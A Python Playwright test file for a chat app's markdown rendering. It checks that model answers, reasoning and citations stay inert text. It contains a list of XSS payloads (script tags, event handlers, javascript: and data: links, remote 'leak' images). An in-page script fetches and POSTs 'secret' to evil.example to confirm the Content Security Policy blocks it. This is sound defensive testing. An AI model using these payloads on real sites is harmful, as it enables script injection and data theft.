"""What a model writes is text: it is drawn, and nothing in it runs, loads or leaves."""

from __future__ import annotations

import random
from typing import Any

import pytest

from tests.page.chat_page import ChatPage, expect

HOSTILE = {
    "script": "<script>window.ran = 1</script>",
    "script in a list": "- one\n- <script>window.ran = 1</script>",
    "image with a handler": '<img src=x onerror="window.ran = 1">',
    "body with a handler": '<body onload="window.ran = 1">',
    "javascript link": "[click](javascript:window.ran=1)",
    "javascript link, disguised": "[click](java&#115;cript:window.ran=1) [b](JaVaScRiPt:x) <javascript:x>",
    "javascript link by reference": "[click][x]\n\n[x]: javascript:window.ran=1",
    "vbscript and file": "[a](vbscript:x) [b](file:///etc/passwd) [c](blob:http://x) [d](ftp://example.com)",
    "data link": "[click](data:text/html,<script>window.ran=1</script>)",
    "data link, base64": "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=)",
    "svg": '<svg onload="window.ran = 1"><script>window.ran = 1</script></svg>',
    "svg image": "![x](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.ran=1'/>)",
    "svg image, base64": "![x](data:image/svg+xml;base64,PHN2ZyB4bWxucz0naHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmcnLz4=)",
    "style": "<style>body { display: none }</style>",
    "style attribute": '<p style="position:fixed;inset:0">over all</p>',
    "iframe": '<iframe src="javascript:window.ran=1" srcdoc="<script>parent.ran=1</script>"></iframe>',
    "form": '<form action="https://evil.example/"><input name=x><button>go</button></form>',
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base and link": '<base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/x.css">',
    "remote image": "![secret](https://evil.example/p.png?leak=1)",
    "remote image by reference": "![secret][x]\n\n[x]: https://evil.example/p.png",
    "remote image without a scheme": "![secret](//evil.example/p.png) ![s](/api/conversations)",
    "remote image inside a link": "[![secret](https://evil.example/p.png)](https://evil.example/)",
    "mathml": "<math><mtext><table><mglyph><style><img src=x onerror=window.ran=1></style>",
    "nested fences": "````html\n```\n<script>window.ran = 1</script>\n```\n````\n\n```html\n<img src=x onerror=ran=1>",
    "fence info": '```"><script>window.ran=1</script>\ncode\n```\n\n```js onload=window.ran=1\nlet x\n```',
    "html in code": "`<script>window.ran=1</script>` and ``` <img src=x onerror=window.ran=1> ```",
    "clobbering": '<a id="model-name" name="getElementById">x</a><form id=composer></form>',
    "entities": "&lt;script&gt;window.ran=1&lt;/script&gt; &#60;script&#62;window.ran=1&#60;/script&#62;",
    "title and alt": '[x](https://example.com "\\"><script>window.ran=1</script>") ![" onerror=window.ran=1](https://e.example/)',
    "table cells": "| <script>ran=1</script> | b |\n|:-:|--:|\n| <img src=x onerror=ran=1> | [x](javascript:1) |",
    "autolinks": "https://example.com/<script>window.ran=1</script> www.example.com me@example.com",
    "null and direction": "a\u0000b \u202ejavascript:window.ran=1\u202c [x](\u0001javascript:window.ran=1)",
}  # fmt: skip

FOUND = """(root) => {
  const all = [...root.querySelectorAll("*")];
  return {
    tags: [...new Set(all.map((e) => e.localName))],
    handlers: all.flatMap((e) => e.getAttributeNames()).filter((name) => /^on|^(style|id|name)$/.test(name)),
    links: all.filter((e) => e.localName === "a").map((e) => [e.getAttribute("href"), e.getAttribute("rel"), e.target]),
    sources: all.filter((e) => e.hasAttribute("src")).map((e) => e.getAttribute("src")),
  };
}"""

TAGS = {
    "a", "blockquote", "br", "button", "code", "div", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "img", "li",
    "ol", "p", "pre", "s", "span", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip


def _assert_harmless(chat: ChatPage) -> None:
    for found in chat.page.locator(".prose").evaluate_all(f"(all) => all.map({FOUND})"):
        assert set(found["tags"]) <= TAGS
        assert found["handlers"] == []
        for href, rel, target in found["links"]:
            assert href is None or href.startswith(("https://", "http://", "mailto:"))
            assert (rel, target) == ("noopener noreferrer", "_blank")
        assert all(source.startswith("data:image/png;base64,") for source in found["sources"])
    assert chat.page.evaluate("window.ran") is None


def test_W04_hostile_answers_stay_text(chat: ChatPage) -> None:
    """Streamed and whole, and again after a reload; the tab itself asserts that nothing was loaded or complained of."""
    for text in HOSTILE.values():
        chat.emulator.reply(text)
    for name in HOSTILE:
        chat.send(name)
        _assert_harmless(chat)
    expect(chat.answers).to_have_count(len(HOSTILE))
    chat.page.wait_for_load_state("networkidle")
    chat.page.reload()
    chat.answers.nth(len(HOSTILE) - 1).wait_for()
    _assert_harmless(chat)


def test_W04_hostile_reasoning_tools_and_citations_stay_text(chat: ChatPage) -> None:
    script = "<img src=x onerror=window.ran=1>"
    url = {"title": script, "content": "", "start_index": 0, "end_index": 1}
    chat.emulator.reply(
        "ok",
        reasoning=script,
        annotations=[
            {"type": "url_citation", "url_citation": {**url, "url": "javascript:window.ran=1"}},
            {"type": "url_citation", "url_citation": {**url, "url": "https://example.com/"}},
        ],
        images=[
            "https://evil.example/x.png",
            "data:image/svg+xml;base64,PHN2Zy8+",
            "javascript:window.ran=1",
        ],
    )
    answer = chat.send(script)
    assert answer.locator(".sources a").evaluate_all("(all) => all.map((a) => [a.href, a.rel])") == [
        ["https://example.com/", "noopener noreferrer"]
    ]
    expect(answer.locator("img")).to_have_count(0)
    expect(answer.locator(".images a")).to_have_attribute("href", "https://evil.example/x.png")
    expect(chat.page).to_have_title(script)
    assert chat.page.evaluate("window.ran") is None


INTRUDERS = r"""() => {
  window.ran = [];
  const add = (tag, properties) => document.body.append(Object.assign(document.createElement(tag), properties));
  add("script", { textContent: "ran.push('inline')" });
  add("script", { src: "https://evil.example/x.js" });
  add("img", { src: "https://evil.example/p.png" });
  add("iframe", { src: "https://evil.example/" });
  add("div", { innerHTML: "<img src='data:,x' onerror=\"ran.push('handler')\">" });
  add("style", { textContent: "body { display: none }" });
  const sent = fetch("https://evil.example/", { method: "POST", body: "secret" });
  const wait = () => new Promise((done) => setTimeout(() => done(ran), 200));
  return sent.then(() => ran.push("fetch"), () => 0).then(wait);
}"""


def test_W05_what_got_through_all_the_same_would_not_run_load_or_send(chat: ChatPage) -> None:
    """The policy is the last line of defence, so it is tried from within the page."""
    chat.expected = lambda text: (
        "Content Security Policy" in text or "script-src" in text or "data:,x" in text
    )
    refused: dict[str, str | None] = {}
    chat.page.on("requestfailed", lambda request: refused.update({request.url: request.failure}))
    assert chat.page.evaluate(INTRUDERS) == []
    assert {url: refused.get(url) for url in chat.strangers} == dict.fromkeys(chat.strangers, "csp")
    chat.strangers.clear()  # none of them was sent
    assert chat.page.evaluate("getComputedStyle(document.body).display") != "none"


def test_W04_an_image_in_the_text_is_shown_only_from_the_text(chat: ChatPage) -> None:
    png = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
    chat.emulator.reply(f"![dot](data:image/png;base64,{png}) ![far](https://evil.example/p.png)")
    answer = chat.send("Draw")
    expect(answer.locator(".prose img")).to_have_attribute("alt", "dot")
    expect(answer.locator("a.remote-image")).to_have_attribute("href", "https://evil.example/p.png")


TEXT = """# Title

A paragraph with *marks*, `code` and a [link](https://example.com "t").
It goes on
here.

Setext
------

1. one
   continued

   second paragraph
2. two
   - a
   - b

     ```js
     let x = 1;
     ```
* other list
* of stars

> quote
lazy line

| a | b |
|:--|--:|
| 1 | 2 |

    indented code

```python
def f(x):
    return "```"
```
~~~
tildes
~~~
***
Last paragraph\r
with CRLF\r\n\r\nand the end [not a link][nowhere].
"""

GROWN = """async ([base, text, cuts]) => {
  const { MarkdownStream } = await import(base + "assets/markdown-stream.js");
  const { render } = await import(base + "assets/markdown.js");
  const whole = document.createElement("div");
  whole.append(render(text));
  return cuts.map((ends) => {
    const grown = document.createElement("div");
    const stream = new MarkdownStream(grown);
    for (const end of ends) stream.update(text.slice(0, end));
    stream.update(text, true);
    return [grown.innerHTML.replace(/\\n+</g, "\\n<"), whole.innerHTML.replace(/\\n+</g, "\\n<")];
  });
}"""


@pytest.mark.parametrize(
    "text", [TEXT, TEXT + "\n[nowhere]: https://example.com/late\n"], ids=["plain", "late reference"]
)
def test_text_that_grows_becomes_what_the_whole_text_is(tab: ChatPage, text: str) -> None:
    tab.page.goto(tab.url)
    rng = random.Random(7)
    cuts = [sorted(rng.sample(range(1, len(text)), size)) for size in (1, 3, 10, 10, 40, 40, 200)]
    for grown, whole in tab.page.evaluate(GROWN, [tab.url, text, [*cuts, list(range(1, len(text)))]]):
        assert grown == whole


def test_finished_blocks_are_left_alone_while_more_comes(tab: ChatPage) -> None:
    """A long answer is not read again for each piece of it."""
    tab.page.goto(tab.url)
    same = tab.page.evaluate(
        """async (base) => {
          const { MarkdownStream } = await import(base + "assets/markdown-stream.js");
          const element = document.createElement("div");
          const stream = new MarkdownStream(element);
          stream.update("First.\\n\\nSecond.\\n\\nThi");
          const [first, second] = element.children;
          stream.update("First.\\n\\nSecond.\\n\\nThird.\\n\\n```js\\nlet x");
          stream.update("First.\\n\\nSecond.\\n\\nThird.\\n\\n```js\\nlet x = 1;\\n```", true);
          return [first === element.children[0], second === element.children[1], element.innerText];
        }""",
        tab.url,
    )
    assert same[:2] == [True, True]
    assert "let x = 1;" in same[2]


def test_the_work_for_a_long_answer_grows_with_its_length_only(tab: ChatPage) -> None:
    """Counted in characters that are parsed, so that a busy machine does not matter."""
    tab.page.goto(tab.url)
    parsed = tab.page.evaluate(
        """async (base) => {
          const MarkdownIt = (await import(base + "assets/vendor/markdown-it.js")).default;
          const { MarkdownStream } = await import(base + "assets/markdown-stream.js");
          const real = MarkdownIt.prototype.parse;
          const work = (paragraphs) => {
            let characters = 0;
            MarkdownIt.prototype.parse = function (text, env) {
              characters += text.length;
              return real.call(this, text, env);
            };
            const stream = new MarkdownStream(document.createElement("div"));
            let text = "";
            for (let i = 0; i < paragraphs; i++) {
              for (const word of ["One ", "two ", "three.\\n\\n"]) stream.update(text += word);
            }
            MarkdownIt.prototype.parse = real;
            return characters / text.length;
          };
          return [work(50), work(500)];
        }""",
        tab.url,
    )
    assert parsed[1] < 1.2 * parsed[0] < 12


def test_code_is_highlighted_and_copied(chat: ChatPage) -> None:
    chat.emulator.reply("```python\nprint('hi')\n```\n\n```nolanguage\n<b>\n```")
    answer = chat.send("Code")
    expect(answer.locator(".hljs-string")).to_have_text("'hi'", use_inner_text=True)
    answer.get_by_role("button", name="Copy", exact=True).first.click()
    chat.becomes("""async () => await navigator.clipboard.readText() === "print('hi')\\n\"""")


def test_W14_code_that_takes_its_rules_for_ever_stops_nothing(tab: ChatPage) -> None:
    """These kept the page from anything else for a minute; a block after them has its colours."""
    tab.page.goto(tab.url)
    hostile = [("java", "$" * 60_000), ("ini", "1e" * 30_000), ("csharp", "A\n" * 30_000)]
    blocks = [f"```{language}\n{code}\n```" for language, code in hostile]
    longest = tab.page.evaluate(
        """async ([module, text]) => {
          const { render } = await import(module);
          let [longest, last] = [0, performance.now()];
          const answer = document.createElement("div");
          answer.append(render(text));
          document.body.append(answer);
          while (!answer.querySelector(".hljs-string")) {
            await new Promise((done) => setTimeout(done, 10));
            longest = Math.max(longest, performance.now() - last);
            last = performance.now();
          }
          const [first] = answer.querySelectorAll("pre");
          if (first.innerText.trim() !== "$".repeat(60_000)) throw new Error("the code is not shown");
          return longest;
        }""",
        [f"{tab.url}assets/markdown.js", "\n\n".join([*blocks, "```python\nprint('hi')\n```"])],
    )
    assert longest < 5_000  # milliseconds, on a busy machine


def test_code_that_grows_keeps_its_colours(call_highlight: Any) -> None:
    shown = call_highlight(["let a = 1;", "let a = 1;\nlet b", "let a = 1;\nlet b = 2;"])
    assert [rest for _, rest in shown[1:2]] == ["\nlet b"]
    assert "hljs-keyword" in shown[1][0]
    assert shown[-1][1] == ""
    assert shown[-1][0].count("hljs-number") == 2


@pytest.fixture
def call_highlight(tab: ChatPage) -> Any:
    """Highlight JavaScript that grows; return all that was shown, as colours and the text behind them."""
    tab.page.goto(tab.url)
    script = """async ([module, codes]) => {
      const { highlight } = await import(module);
      const shown = [];
      for (const code of codes) {
        await new Promise((done) => highlight(code, "javascript", (html, rest) => {
          shown.push([html, rest]);
          if (!rest) done();
        }));
      }
      return shown;
    }"""
    return lambda codes: tab.page.evaluate(script, [f"{tab.url}assets/highlighting.js", codes])


def test_poems_tasks_and_footnotes(chat: ChatPage) -> None:
    chat.emulator.reply(
        "Roses are red,\nviolets are blue.\n\n- [ ] to do\n- [x] done\n- [y] neither\n\n"
        "A claim.[^1] The set [^abc] and `x[^2]`.\n\n[^1]: The *source*,\ncontinued.\n[^2]: Another."
    )
    answer = chat.send("Write")
    expect(answer.locator(".prose p").first).to_have_text(
        "Roses are red,\nviolets are blue.", use_inner_text=True
    )
    expect(answer.locator(".prose li")).to_have_text(["☐ to do", "☑ done", "[y] neither"])
    expect(answer.locator(".prose p:not(.footnote) .footnote-mark")).to_have_text(["1"])
    notes = ["1 The source,\ncontinued.", "2 Another."]
    expect(answer.locator(".footnote")).to_have_text(notes, use_inner_text=True)


def test_marks_of_footnotes_lead_to_the_note_and_back(chat: ChatPage) -> None:
    text = "Tides[^1] rise.\n\n" + "A line.\n\n" * 60 + "[^1]: The Moon."
    for _ in range(2):  # two answers with the same note
        chat.emulator.reply(text)
        chat.send("Why?")
    mark = chat.answer.get_by_role("button", name="Footnote 1", exact=True)
    note = chat.answer.get_by_role("button", name="Back to the mark of footnote 1")
    mark.scroll_into_view_if_needed()
    mark.press("Enter")
    expect(note).to_be_focused()
    expect(note).to_be_in_viewport()
    note.click()
    expect(mark).to_be_focused()
    expect(mark).to_be_in_viewport()


def test_code_wraps_and_is_saved(chat: ChatPage) -> None:
    chat.emulator.reply("```python\n" + "x = 1; " * 60 + "\n```")
    answer = chat.send("Code")
    pre = answer.locator("pre")
    is_wide = "(e) => e.scrollWidth > e.clientWidth"
    assert pre.evaluate(is_wide)
    wrap = answer.get_by_role("button", name="Wrap")
    wrap.click()
    expect(wrap).to_have_attribute("aria-pressed", "true")
    assert not pre.evaluate(is_wide)
    chat.page.reload()
    wrap.wait_for()
    assert not pre.evaluate(is_wide)
    with chat.page.expect_download() as saved:
        answer.get_by_role("button", name="Save").click()
    assert saved.value.suggested_filename == "code.py"
    assert saved.value.path().read_text() == "x = 1; " * 60 + "\n"
